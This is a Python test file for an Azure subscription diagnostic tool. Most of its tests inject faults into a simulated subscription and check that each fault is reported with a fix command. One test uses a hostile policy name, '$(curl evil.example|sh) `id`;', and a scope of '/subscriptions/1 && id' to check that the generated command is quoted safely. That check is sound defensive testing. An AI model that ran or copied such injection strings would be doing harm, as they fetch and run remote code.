"""What would stop an estate, broken one at a time: each is named, and nothing else is."""

from __future__ import annotations

import shlex
from collections.abc import Callable, Iterator
from dataclasses import dataclass, replace
from datetime import date
from typing import Any

import pytest
from starlette.types import Receive, Scope, Send

from secure_openai.delivery.doctor.answer import Check, Outcome
from secure_openai.delivery.doctor.examination import Diagnosis, examined
from secure_openai.delivery.doctor.needs import Feature, Needs
from secure_openai.delivery.doctor.resource_manager import ResourceManager
from secure_openai.errors import ManagementError
from secure_openai.outbound import Outbound
from secure_openai.posture.estate import Estate
from secure_openai.posture.simulation import Workspace
from tests.delivery.subscription import BEARER, OTHER, TENANT, WHO, Subscription, network, regional
from tests.hosted.application import in_a_thread
from tests.infra.estate import INFRA, environment
from tests.model.management.resource_manager import sku
from tests.servers import listening, port_of, served
from tests.tls import Tls

TODAY = date(2026, 11, 25)
REGION = "swedencentral"
QUOTA = "OpenAI.DataZoneStandard.gpt-5.4-mini"
CHAT = "chat of oai-chat-main-"
JOIN = "Microsoft.Network/virtualNetworks/subnets/join/action"


@pytest.fixture(scope="module")
def needs(private_state: dict[str, Any]) -> Needs:
    """Return what the private estate needs, whose names a state knows."""
    return Needs.of(Estate.of(private_state), "infra")


async def one_token(_: str) -> str:
    """Return what the stand-in accepts."""
    return BEARER


@dataclass
class Azure:
    """A server that speaks for whichever subscription a test makes.

    Attributes:
        origin: Where it is.
        tls: Its certificate.
        subscription: For whom it speaks.
    """

    origin: str
    tls: Tls
    subscription: Subscription | None = None

    async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
        """Answer a request."""
        assert self.subscription is not None
        await self.subscription.app()(scope, receive, send)

    async def diagnosed(self, needs: Needs, subscription: Subscription) -> Diagnosis:
        """Ask everything."""
        self.subscription = subscription
        async with ResourceManager(
            Outbound(ca_bundle=self.tls.ca),
            one_token,
            origin=self.origin,
            scope="https://management.azure.com/.default",
            graph=self.origin,
        ) as manager:
            return await examined(
                needs, manager, subscription=needs.subscription, tenant=needs.tenant, today=TODAY
            )


@pytest.fixture(scope="module")
def azure(tls: Tls) -> Iterator[Azure]:
    """Serve, in a thread of its own."""
    bound = listening()
    running = Azure(f"https://localhost:{port_of(bound)}", tls)
    with in_a_thread(served(running, bound, tls=tls)):
        yield running


@dataclass(frozen=True)
class Fault:
    """Something wrong.

    Attributes:
        name: What it is called.
        breaks: Breaks it.
        check: Who names it.
        subject: What the subject holds.
        says: What the sentence holds.
        mend: What the mending holds.
    """

    name: str
    breaks: Callable[[Subscription, Needs], object]
    check: Check
    subject: str
    says: str
    mend: str


def _name(needs: Needs, beginning: str) -> str:
    return next(one.name for one in needs.names if one.name.startswith(beginning))


def _models(subscription: Subscription, name: str, *instead: dict[str, Any]) -> None:
    kept = [one for one in subscription.models[REGION] if one["model"]["name"] != name]
    subscription.models[REGION] = [*kept, *instead]


def _without(*actions: str) -> Callable[[Subscription, Needs], object]:
    def breaks(subscription: Subscription, _: Needs) -> None:
        subscription.permissions[""] = [{"actions": ["*"], "notActions": list(actions)}]

    return breaks


CRYPTO_USER = "12338af0-0e69-4776-bea7-57ae8d297424"
CONDITION = (
    "((!(ActionMatches{'Microsoft.Authorization/roleAssignments/write'})) OR "
    "(@Request[Microsoft.Authorization/roleAssignments:RoleDefinitionId] "
    "ForAnyOfAnyValues:GuidEquals {%s}))"
)


def _delegation(numbers: frozenset[str], condition: str = CONDITION) -> dict[str, Any]:
    """Return the right to assign roles, as bootstrap gives it to a pipeline."""
    role = "f58310d9-a9f6-439a-9e8d-f62e7b41a168"
    return {
        "properties": {
            "principalId": WHO,
            "roleDefinitionId": f"/x/providers/Microsoft.Authorization/roleDefinitions/{role}",
            "condition": condition.replace("%s", ", ".join(sorted(numbers))),
        }
    }


def _deleted(kind: str, beginning: str, **more: Any) -> Callable[[Subscription, Needs], object]:
    def breaks(subscription: Subscription, needs: Needs) -> None:
        name = _name(needs, beginning)
        subscription.taken.add(name)
        where = f"/subscriptions/{needs.subscription}/resourceGroups/rg-chat/providers/x/y/{name}"
        subscription.deleted[kind] = [{"id": where, "name": name, "location": REGION, **more}]

    return breaks


FAULTS = [
    Fault("the sign-in is of another tenant",
          lambda one, _: setattr(one, "tenant", OTHER),
          Check.TENANT, TENANT, "the sign-in is of another tenant", f"az login --tenant {TENANT}"),
    Fault("the subscription is of another tenant than the people",
          lambda one, _: setattr(one, "tenant", OTHER.replace("9", "8")),
          Check.TENANT, TENANT, "people sign in to this tenant", "entra = { tenant_id ="),
    Fault("the subscription is disabled",
          lambda one, _: setattr(one, "state", "Disabled"),
          Check.SUBSCRIPTION, "00000000", "it is Disabled", "az account subscription enable"),
    Fault("nobody sees the subscription",
          lambda one, _: setattr(one, "id", OTHER),
          Check.SUBSCRIPTION, "00000000", "sees no such subscription", "az account set"),
    Fault("a provider is not registered",
          lambda one, _: one.unregistered.add("Microsoft.DocumentDB"),
          Check.PROVIDER, "Microsoft.DocumentDB", "it is NotRegistered",
          "az provider register --namespace Microsoft.DocumentDB --wait"),
    Fault("roles cannot be assigned",
          _without("Microsoft.Authorization/*/Write", "Microsoft.Authorization/*/Delete"),
          Check.ROLE, "Role Based Access Control Administrator",
          "Microsoft.Authorization/roleAssignments/write", "az role assignment create"),
    Fault("a condition leaves a role out that is assigned",
          lambda one, needs: one.roles.append(_delegation(needs.assigned - {CRYPTO_USER})),
          Check.ROLE, "roles that may be assigned",
          "leaves out Key Vault Crypto User, which the estate assigns",
          "terraform -chdir=infra/bootstrap apply"),
    Fault("one action is missing",
          _without("Microsoft.KeyVault/vaults/write"),
          Check.ROLE, "Contributor", "do not allow Microsoft.KeyVault/vaults/write",
          '--role "Contributor"'),
    Fault("nobody may make applications in Entra",
          lambda one, _: setattr(one, "anybody", False),
          Check.DIRECTORY, "applications in Entra", "Application Developer", "client_ids"),
    Fault("the region does not offer the model",
          lambda one, _: _models(one, "gpt-5.1"),
          Check.MODEL, "reasoning of oai-chat-main-", "does not offer the model gpt-5.1",
          "az cognitiveservices model list --location swedencentral"),
    Fault("the region has another version",
          lambda one, _: _models(one, "gpt-5.1", regional("gpt-5.1", "2099-01-01")),
          Check.MODEL, "reasoning of oai-chat-main-", "has no version 2025-11-13", "model list"),
    Fault("the model is not sold as that",
          lambda one, _: _models(one, "gpt-5.1", regional(
              "gpt-5.1", "2025-11-13", sold=[sku("GlobalStandard", "gpt-5.1")])),
          Check.MODEL, "reasoning of oai-chat-main-", "is not sold as DataZoneStandard",
          "model list"),
    Fault("the model is retired",
          lambda one, _: _models(one, "gpt-5.1", regional(
              "gpt-5.1", "2025-11-13", deprecation={"inference": "2026-11-01T00:00:00Z"})),
          Check.MODEL, "reasoning of oai-chat-main-", "has retired gpt-5.1 2025-11-13",
          "model list"),
    Fault("the model retires soon",
          lambda one, _: _models(one, "gpt-5.1", regional(
              "gpt-5.1", "2025-11-13", deprecation={"inference": "2026-12-24T00:00:00Z"})),
          Check.MODEL, "reasoning of oai-chat-main-", "retires on 2026-12-24, in 29 days",
          "model list"),
    Fault("the quota is too small",
          lambda one, _: one.usages[REGION].update({QUOTA: (250.0, 300.0)}),
          Check.QUOTA, f"{REGION}, {QUOTA}", "50 of 300 are left, and 100 are asked for",
          "az cognitiveservices usage list --location swedencentral"),
    Fault("there is no quota",
          lambda one, _: one.usages[REGION].pop(QUOTA),
          Check.QUOTA, f"{REGION}, {QUOTA}", "the subscription has none", "usage list"),
    Fault("the storage account's name is taken",
          lambda one, needs: one.taken.add(_name(needs, "stchatrec")),
          Check.NAME, "stchatrec", "another storage account has it", "prefix"),
    Fault("the vault's name is taken",
          lambda one, needs: one.taken.add(_name(needs, "kv-chat")),
          Check.NAME, "kv-chat", "another key vault has it", "prefix"),
    Fault("the database account's name is taken",
          lambda one, needs: one.taken.add(_name(needs, "cosmos-chat")),
          Check.NAME, "cosmos-chat", "another Cosmos DB account has it", "prefix"),
    Fault("the model account's domain is taken",
          lambda one, needs: one.taken.add(_name(needs, "oai-chat-second")),
          Check.NAME, "oai-chat-second", "another Azure OpenAI account has it", "prefix"),
    Fault("the web application's name is taken",
          lambda one, needs: one.taken.add(_name(needs, "app-chat")),
          Check.NAME, "app-chat", "another App Service has it", "prefix"),
    Fault("a vault was deleted and is kept",
          _deleted("deletedVaults", "kv-chat", properties={
              "location": REGION, "scheduledPurgeDate": "2027-02-01T00:00:00Z"}),
          Check.DELETED, "kv-chat", "is kept until 2027-02-01", "az keyvault purge --name kv-chat"),
    Fault("a vault with purge protection was deleted",
          _deleted("deletedVaults", "kv-chat", properties={
              "location": REGION, "purgeProtectionEnabled": True}),
          Check.DELETED, "kv-chat", "was deleted and is kept", "az keyvault recover"),
    Fault("a model account was deleted and is kept",
          _deleted("deletedAccounts", "oai-chat-main"),
          Check.DELETED, "oai-chat-main", "was deleted and is kept",
          "az cognitiveservices account purge --location swedencentral --resource-group rg-chat"),
    Fault("a workspace was deleted and is kept",
          _deleted("deletedWorkspaces", "log-chat"),
          Check.DELETED, "log-chat", "was deleted and is kept",
          "az monitor log-analytics workspace recover --resource-group rg-chat"),
    Fault("another network has the addresses",
          lambda one, needs: one.networks.append(
              network("vnet-spoke", needs.subscription, f"{needs.networks[0].prefixes[0]}")),
          Check.NETWORK, "vnet-chat", "and could never be peered with it", "address_space"),
]  # fmt: skip


async def test_nothing_is_in_the_way(needs: Needs, azure: Azure) -> None:
    """A healthy subscription has no finding, nothing to look at, and nothing left unasked."""
    subscription = Subscription.healthy(needs)
    found = await azure.diagnosed(needs, subscription)

    assert [one for one in found.answers if one.outcome is not Outcome.FINE] == []
    assert found.exit_code == 0
    assert {one.check for one in found.answers} == set(Check) - {Check.FEATURE}
    assert {method for method, _ in subscription.seen} == {"GET", "HEAD", "POST"}
    assert [path for method, path in subscription.seen if method == "POST"] == [
        path for method, path in subscription.seen if "vailability" in path
    ]


@pytest.mark.parametrize("fault", FAULTS, ids=[one.name for one in FAULTS])
async def test_a_fault_is_named_and_no_other(fault: Fault, needs: Needs, azure: Azure) -> None:
    """One finding, with its reason and with what mends it."""
    subscription = Subscription.healthy(needs)
    fault.breaks(subscription, needs)
    found = await azure.diagnosed(needs, subscription)

    (finding,) = found.of(Outcome.FINDING)
    assert finding.check is fault.check
    assert fault.subject in finding.subject
    assert fault.says in finding.says
    assert fault.mend in finding.mend
    assert found.exit_code == 1
    if fault.check not in {Check.TENANT, Check.SUBSCRIPTION}:
        assert found.of(Outcome.UNASKED) == []


@pytest.mark.parametrize(
    ("end", "action", "check"),
    [
        ("/providers", "Microsoft.Resources/subscriptions/providers/read", Check.PROVIDER),
        ("/permissions", "Microsoft.Authorization/permissions/read", Check.ROLE),
        ("/roleAssignments", "Microsoft.Authorization/roleAssignments/read", Check.ROLE),
        ("/models", "Microsoft.CognitiveServices/locations/models/read", Check.MODEL),
        ("/usages", "Microsoft.CognitiveServices/locations/usages/read", Check.QUOTA),
        ("KeyVault/checkNameAvailability", "Microsoft.KeyVault/checkNameAvailability/read",
         Check.NAME),
        ("/deletedVaults", "Microsoft.KeyVault/deletedVaults/read", Check.DELETED),
        ("/virtualNetworks", "Microsoft.Network/virtualNetworks/read", Check.NETWORK),
        ("/policyAssignments", "Microsoft.Authorization/policyAssignments/read", Check.POLICY),
    ],
)  # fmt: skip
async def test_what_may_not_be_asked_is_never_fine(
    end: str, action: str, check: Check, needs: Needs, azure: Azure
) -> None:
    """The action that is missing is named; the rest is asked; exit code 2."""
    subscription = Subscription.healthy(needs)
    subscription.refused[end] = action
    found = await azure.diagnosed(needs, subscription)
    unasked = found.of(Outcome.UNASKED)

    assert found.exit_code == 2
    assert found.of(Outcome.FINDING) == []
    assert check in {one.check for one in unasked}
    assert all(f"it needs {action}" in one.says for one in unasked)
    if check is not Check.MODEL:
        assert {one.check for one in unasked} == {check}


async def test_everything_at_once(needs: Needs, azure: Azure) -> None:
    """Findings do not hide one another: as many are told as there are."""
    subscription = Subscription.healthy(needs)
    chosen = [one for one in FAULTS if one.check in {Check.PROVIDER, Check.QUOTA, Check.NETWORK}]
    for fault in chosen[:1] + chosen[-2:]:
        fault.breaks(subscription, needs)
    subscription.refused["/deletedAccounts"] = "Microsoft.CognitiveServices/deletedAccounts/read"
    found = await azure.diagnosed(needs, subscription)

    assert [one.check for one in found.of(Outcome.FINDING)] == [
        Check.PROVIDER,
        Check.QUOTA,
        Check.NETWORK,
    ]
    assert {one.check for one in found.of(Outcome.UNASKED)} == {Check.DELETED}
    assert found.exit_code == 1


async def test_a_feature_is_named(needs: Needs, azure: Azure) -> None:
    """Machines that encrypt their disks need a feature; one that is registered is fine."""
    feature = Feature("Microsoft.Compute", "EncryptionAtHost", "machines encrypt their disks")
    wanted = replace(needs, features=(feature,))
    subscription = Subscription.healthy(wanted)
    fine = await azure.diagnosed(wanted, subscription)
    subscription.features.clear()
    found = await azure.diagnosed(wanted, subscription)

    assert fine.exit_code == 0
    (finding,) = found.of(Outcome.FINDING)
    assert (finding.check, finding.subject) == (Check.FEATURE, "EncryptionAtHost")
    assert finding.mend == (
        "az feature register --namespace Microsoft.Compute --name EncryptionAtHost"
    )


async def test_a_condition_that_leaves_nothing_out(needs: Needs, azure: Azure) -> None:
    """One that names every role is fine, and so is a right that none binds, beside another."""
    subscription = Subscription.healthy(needs)
    subscription.roles = [_delegation(needs.assigned)]
    whole = await azure.diagnosed(needs, subscription)
    subscription.roles = [_delegation(frozenset()), _delegation(frozenset(), "")]
    unbound = await azure.diagnosed(needs, subscription)
    said = [
        {one.says for one in found.answers if one.subject == "roles that may be assigned"}
        for found in (whole, unbound)
    ]

    assert [found.exit_code for found in (whole, unbound)] == [0, 0]
    assert said == [
        {f"the condition on it lets all {len(needs.assigned)} be assigned that it takes"},
        {"no condition binds which"},
    ]


async def test_a_condition_that_cannot_be_read_is_to_be_looked_at(
    needs: Needs, azure: Azure
) -> None:
    """Nobody guesses what somebody wrote by hand, and somebody else's is not looked at."""
    subscription = Subscription.healthy(needs)
    other = _delegation(frozenset())
    other["properties"]["principalId"] = OTHER
    subscription.roles = [_delegation(frozenset(), "@Principal[x] StringEquals 'y'"), other]
    found = await azure.diagnosed(needs, subscription)
    (look,) = found.of(Outcome.LOOK)

    assert look.subject == "roles that may be assigned"
    assert f"--assignee {WHO}" in look.mend


async def test_a_policy_that_denies_is_to_be_looked_at(needs: Needs, azure: Azure) -> None:
    """By its effect, its parameter's default or what an initiative passes on; never a finding."""
    subscription = Subscription.healthy(needs)
    at = "/providers/Microsoft.Authorization"
    subscription.definitions = {
        f"{at}/policyDefinitions/plain": {
            "displayName": "No public addresses",
            "policyRule": {"then": {"effect": "deny"}},
        },
        f"{at}/policyDefinitions/chosen": {
            "displayName": "Regions",
            "parameters": {"effect": {"defaultValue": "Audit"}},
            "policyRule": {"then": {"effect": "[parameters('effect')]"}},
        },
        f"{at}/policySetDefinitions/set": {
            "parameters": {"how": {"defaultValue": "Deny"}},
            "policyDefinitions": [
                {
                    "policyDefinitionId": f"{at}/policyDefinitions/chosen",
                    "parameters": {"effect": {"value": "[parameters('how')]"}},
                }
            ],
        },
    }
    for name, definition, more in (
        ("one", "policyDefinitions/plain", {}),
        ("two", "policyDefinitions/chosen", {}),
        ("three", "policySetDefinitions/set", {}),
        ("four", "policySetDefinitions/set", {"parameters": {"how": {"value": "Audit"}}}),
        ("five", "policyDefinitions/plain", {"enforcementMode": "DoNotEnforce"}),
    ):
        properties = {"policyDefinitionId": f"{at}/{definition}", **more}
        subscription.assignments.append({"name": name, "properties": properties})
    found = await azure.diagnosed(needs, subscription)

    looks = {one.subject: one.says for one in found.of(Outcome.LOOK)}
    assert looks.keys() == {"one", "three"}
    assert "it denies: No public addresses" in looks["one"]
    assert "it denies: Regions" in looks["three"]
    assert found.exit_code == 0


async def test_a_command_that_mends_runs_nothing_that_somebody_called_a_policy(
    needs: Needs, azure: Azure
) -> None:
    """Whoever names things in the tenant does not write commands for whoever asks."""
    subscription = Subscription.healthy(needs)
    definition = "/providers/Microsoft.Authorization/policyDefinitions/plain"
    subscription.definitions = {
        definition: {"displayName": "No", "policyRule": {"then": {"effect": "deny"}}}
    }
    name, scope = "$(curl evil.example|sh) `id`;'", "/subscriptions/1 && id"
    properties = {"policyDefinitionId": definition, "scope": scope}
    subscription.assignments.append({"name": name, "properties": properties})
    (look,) = (await azure.diagnosed(needs, subscription)).of(Outcome.LOOK)

    assert ["az", "policy", "assignment", "show", "--name", name, "--scope", scope] == shlex.split(
        look.mend
    )


async def test_what_stands_already_is_not_in_its_own_way(needs: Needs, azure: Azure) -> None:
    """An apply that goes on finds its own names, its own network and its own quota."""
    subscription = Subscription.healthy(needs)
    subscription.resources = [one.id for one in needs.names]
    subscription.taken = {one.name for one in needs.names}
    subscription.networks.append(
        {
            "id": needs.networks[0].id,
            "properties": {"addressSpace": {"addressPrefixes": ["10.0.0.0/8"]}},
        }
    )
    found = await azure.diagnosed(needs, subscription)

    assert found.exit_code == 0


async def test_what_others_own_is_asked_for_where_it_is(azure: Azure) -> None:
    """A subnet of somebody else is joined by a role there, wherever the rest is allowed."""
    with Workspace(INFRA, var_files=[environment("existing-network")]) as workspace:
        needs = Needs.of(Estate.of(workspace.apply()), "infra")
    subscription = Subscription.healthy(needs)
    subnet = next(one for one in needs.rights.elsewhere if one.endswith("subnets/endpoints"))
    fine = await azure.diagnosed(needs, subscription)
    subscription.permissions[subnet] = [{"actions": ["*/read"], "notActions": []}]
    found = await azure.diagnosed(needs, subscription)

    assert fine.exit_code == 0
    (finding,) = found.of(Outcome.FINDING)
    assert (finding.check, finding.subject) == (Check.ROLE, subnet)
    assert JOIN in finding.says
    assert finding.mend.endswith(f"--scope {subnet}  # as an owner")


async def test_whoever_is_throttled_waits(needs: Needs, azure: Azure) -> None:
    """A 429 is asked again once."""
    subscription = Subscription.healthy(needs)
    subscription.throttled = 1

    assert (await azure.diagnosed(needs, subscription)).exit_code == 0


async def test_a_list_that_leads_elsewhere_is_not_followed(needs: Needs, azure: Azure) -> None:
    """Our token goes to Resource Manager and nowhere else, whatever an answer says."""
    subscription = Subscription.healthy(needs)
    subscription.elsewhere = "https://elsewhere.example"
    found = await azure.diagnosed(needs, subscription)

    assert found.exit_code == 2
    assert {one.check for one in found.of(Outcome.UNASKED)} == {Check.PROVIDER}
    assert all("leads elsewhere" in one.says for one in found.of(Outcome.UNASKED))


async def test_a_sign_in_that_is_over_is_no_finding(needs: Needs, azure: Azure) -> None:
    """Whoever is not recognised learns that, and nothing about the subscription."""
    subscription = Subscription.healthy(needs)
    subscription.accepts = lambda *_: False

    with pytest.raises(ManagementError, match="sign in with az login"):
        await azure.diagnosed(needs, subscription)
